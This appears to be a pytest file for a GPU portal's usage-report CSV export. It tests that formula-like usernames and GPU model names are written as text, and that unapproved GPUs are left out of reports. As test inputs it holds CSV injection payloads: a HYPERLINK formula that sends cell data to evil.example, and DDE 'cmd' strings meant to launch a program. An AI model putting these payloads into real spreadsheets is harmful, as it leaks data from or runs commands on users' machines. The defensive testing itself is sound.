"""Report CSVs a manager opens in a spreadsheet: text that an agent or a user chose (a GPU model, a
username) never arrives as a formula, numbers stay numbers, and a GPU that only its agent vouches
for (awaiting a site admin's approval) adds no device time and no capacity to any report."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest

from portal.audit import services as audit
from portal.fleet import services as fleet_services
from portal.fleet.models import Gpu, Node
from portal.reports.csv_export import cell, to_csv
from portal.telemetry import streams
from portal.telemetry.models import GpuMinute, ShareMinute
from portal.tenancy.models import Membership, Role
from tests.portal.telemetry.conftest import hello_for
from tests.reservations import clock_at, ended, placed, submitted

URL = "/api/v1/reports/usage/"
T0 = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)
WINDOW = {"since": (T0 - timedelta(hours=1)).isoformat(), "until": (T0 + timedelta(hours=3)).isoformat()}
HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"NVIDIA A100")'


def table(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode())))


def busy(gpu: Gpu, minutes: int, sm_pct: int) -> None:
    GpuMinute.objects.bulk_create([
        GpuMinute(gpu=gpu, minute=T0 + timedelta(minutes=m), samples=60, sm_util_sum=60 * sm_pct, sm_util_count=60,
                  mem_used_sum=0, mem_used_max=0, power_sum=0, power_count=0) for m in range(minutes)])


def agent_reports_gpu(model: str) -> Gpu:
    """A GPU a node's agent reports that the inventory does not have: cordoned, awaiting approval."""
    node = Node.objects.get(name="a100-node-1")
    hello = hello_for(node)
    extra = hello.gpus[0].model_copy(update={"uuid": f"GPU-{uuid.uuid4()}", "index": 77, "model": model})
    streams.register_hello(node, hello.model_copy(update={"gpus": [*hello.gpus, extra]}))
    return Gpu.objects.get(uuid=extra.uuid)


# The writer -----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
                                  "\x00=1", "-", "+", "=", "@", HOSTILE_MODEL])
def test_text_that_starts_a_formula_is_written_as_text(text):
    assert cell(text) == "'" + text
    assert table_of([[text]])[1] == ["'" + text]


@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.25, "-1.5", "+0.5", "-3", "1e-3", "-1.25E+3", "T4", "alice",
                                   "", "a=b", "#3", None])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert cell(value) == value
    assert table_of([[value]])[1] == ["" if value is None else str(value)]


def table_of(rows: list[list]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(["x"], rows))))


# The exports ----------------------------------------------------------------------------------

@pytest.mark.parametrize("username", ["+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"])
def test_a_username_reaches_the_spreadsheet_as_text(client_for, fleet, teams, people, username):
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_user(username, password="pw")
    Membership.objects.create(user=user, team=teams["vision"], role=Role.MEMBER)
    gpu = Gpu.objects.get(node__name="t4-node-1", index=0)
    with clock_at(T0):
        r = placed(submitted(user, teams["vision"], image="busybox:1", gpu_request="0.5", gpu_limit="0.5",
                             gpu_memory_mib=100), gpu)
    with clock_at(T0 + timedelta(hours=2)):
        ended(r)
    rows = table(client_for("dave").get(URL, {**WINDOW, "group_by": "user", "format": "csv"}))
    assert rows[1][0] == "'" + username
    assert float(rows[1][1]) == 1.0  # the numbers beside it are still numbers


def test_an_agent_reported_gpu_model_reaches_the_spreadsheet_as_text(client_for, fleet, teams, people):
    gpu = agent_reports_gpu(HOSTILE_MODEL)
    fleet_services.set_cordon(gpu.pk, audit.cli("test"), False)  # approved: its time counts from now on
    with clock_at(T0):
        r = placed(submitted(people["alice"], teams["vision"], image="busybox:1", gpu_request="0.5",
                             gpu_limit="0.5", gpu_memory_mib=100), gpu)
    ShareMinute.objects.bulk_create([ShareMinute(reservation=r, gpu=gpu, team_id=r.team_id,
                                                 minute=T0 + timedelta(minutes=m), samples=60, used_sum=30,
                                                 used_max=0.5) for m in range(60)])
    busy(gpu, 60, 50)
    for group_by in ("gpu_model", "gpu"):
        rows = table(client_for("admin").get(URL, {**WINDOW, "group_by": group_by, "format": "csv"}))
        labels = [row[0] for row in rows[1:-1]]
        assert not any(label.startswith("=") for label in labels), labels
    rows = table(client_for("admin").get(URL, {**WINDOW, "group_by": "gpu_model", "format": "csv"}))
    assert [row[0] for row in rows[1:-1]] == ["'" + HOSTILE_MODEL]


# GPUs awaiting approval -----------------------------------------------------------------------

def test_device_time_of_a_gpu_nobody_approved_is_not_reported(client_for, fleet):
    known = Gpu.objects.get(node__name="t4-node-1", index=0)
    unknown = agent_reports_gpu("H200-141GB")
    busy(known, 60, 50)
    busy(unknown, 60, 100)
    data = client_for("admin").get(URL, {**WINDOW, "group_by": "gpu_model"}).json()
    rows = {row["key"]: row for row in data["rows"]}
    assert "H200-141GB" not in rows
    assert data["total"]["device_busy_hours"] == rows["T4"]["device_busy_hours"] == 0.5
    node_rows = {row["key"]: row for row in client_for("admin").get(URL, {**WINDOW, "group_by": "node"})
                 .json()["rows"]}
    assert "a100-node-1" not in node_rows  # its only device time is the unapproved GPU's

    fleet_services.set_cordon(unknown.pk, audit.cli("test"), False)  # approved
    data = client_for("admin").get(URL, {**WINDOW, "group_by": "gpu_model"}).json()
    assert {row["key"]: row for row in data["rows"]}["H200-141GB"]["device_busy_hours"] == 1.0


def test_a_gpu_nobody_approved_is_no_capacity_in_the_overview(client_for, fleet):
    before = client_for("admin").get("/api/v1/reports/overview/").json()["now"]
    agent_reports_gpu("H200-141GB")
    after = client_for("admin").get("/api/v1/reports/overview/").json()["now"]
    assert after["gpus"] == before["gpus"] and after["gpu_states"] == before["gpu_states"]
    assert "H200-141GB" not in {m["model"] for m in after["by_model"]}
